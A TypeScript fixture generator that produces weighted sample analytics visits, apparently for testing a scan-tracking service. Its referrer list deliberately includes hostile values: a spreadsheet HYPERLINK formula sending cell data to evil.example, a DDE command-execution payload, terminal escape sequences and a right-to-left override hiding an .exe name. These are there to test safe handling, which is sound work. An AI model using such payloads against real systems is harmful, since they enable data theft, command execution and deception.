/** Generates scan values, such as cities and browsers, in realistic shares. Some referrers are hostile. */
import type { Scan } from '#service/shapes';

type Shares = readonly (readonly [share: number, value: Partial<Scan>])[];

const SLOTS = 256;

const place = (country: string | null, city: string | null) => ({ country, city });
const agent = (device: string, os: string, browser: string) => ({ device, os, browser });
const origin = (referrer: string | null) => ({ referrer });

const places = spread([
  [40, place('DE', 'Berlin')],
  [24, place('DE', 'München')],
  [24, place('FR', 'Paris')],
  [10, place('FR', "L'Haÿ-les-Roses")],
  [28, place('US', 'New York')],
  [12, place('US', 'Washington, D.C.')],
  [16, place('BR', 'São Paulo')],
  [14, place('JP', '東京')],
  [10, place('IN', 'Bengaluru')],
  [10, place('KE', 'Nairobi')],
  [8, place('PL', 'Łódź')],
  [8, place('AE', 'دبي')],
  [6, place('GB', 'Newcastle upon Tyne')],
  [4, place('NL', "'s-Hertogenbosch")],
  [20, place('DE', null)],
  [22, place(null, null)],
]);

const agents = spread([
  [88, agent('mobile', 'iOS', 'Mobile Safari')],
  [76, agent('mobile', 'Android', 'Chrome Mobile')],
  [18, agent('mobile', 'Android', 'Samsung Internet')],
  [12, agent('mobile', 'iOS', 'Instagram')],
  [14, agent('tablet', 'iPadOS', 'Mobile Safari')],
  [6, agent('tablet', 'Android', 'Chrome')],
  [14, agent('desktop', 'Windows', 'Edge')],
  [8, agent('desktop', 'macOS', 'Safari')],
  [6, agent('desktop', 'Linux', 'Firefox')],
  [14, agent('unknown', 'unknown', 'unknown')],
]);

const origins = spread([
  [180, origin(null)],
  [24, origin('https://www.google.com/')],
  [16, origin('https://www.instagram.com/')],
  [14, origin('android-app://com.google.android.googlequicksearchbox/')],
  [10, origin('https://news.example/article?id=42&title=%22Caf%C3%A9%22,free')],
  [4, origin('=HYPERLINK("https://evil.example/?"&A1,"Error: click")')],
  [3, origin('\u001b]0;owned\u0007\u001b[2J\u001b[31mred')],
  // words-ok: sample data
  [2, origin('She said "scan me",\nthen left\r\n')],
  [2, origin('@SUM(1+1)*cmd|/c calc!A0')],
  [1, origin('https://example.com/\u202Egnp.exe')],
]);

export const PLAIN_VISIT: Omit<Scan, 'id' | 'ts'> = {
  ...place('DE', 'Berlin'),
  ...agent('mobile', 'iOS', 'Mobile Safari'),
  ...origin(null),
};

function spread(shares: Shares): readonly string[] {
  const whole = shares.reduce((sum, [share]) => sum + share, 0);
  const slots: string[] = [];
  let reached = 0;
  for (const [share, value] of shares) {
    reached += share;
    const inside = JSON.stringify(value).slice(1, -1);
    while (slots.length < Math.round((reached / whole) * SLOTS)) slots.push(inside);
  }
  return slots;
}

const AT_HOME = 150;

/** Returns a function that formats the end of a scan's JSON, from `"country"` on. */
export function createVisits(home: { country: string; city: string }): (chance: number) => string {
  const inside = JSON.stringify(place(home.country, home.city)).slice(1, -1);
  return (chance) => {
    const where = chance >>> 24 < AT_HOME ? inside : places[chance & 255];
    return `${where},${agents[(chance >>> 8) & 255]},${origins[(chance >>> 16) & 255]}}`;
  };
}
